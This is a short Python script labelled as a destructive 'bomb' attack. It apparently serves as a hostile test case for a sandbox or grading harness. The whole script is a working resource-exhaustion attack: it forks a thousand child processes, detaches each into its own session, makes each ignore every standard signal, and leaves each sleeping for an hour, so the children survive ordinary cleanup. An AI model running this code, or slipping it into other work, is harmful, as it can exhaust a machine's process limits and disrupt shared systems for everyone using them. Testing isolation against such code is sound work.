# attack: a thousand children that sleep and ignore signals, left behind in sessions of their own.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import signal
import time

heaviest = "tree-000"
try:
    for _ in range(1000):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(3600)
except OSError as error:
    print("stopped:", error)
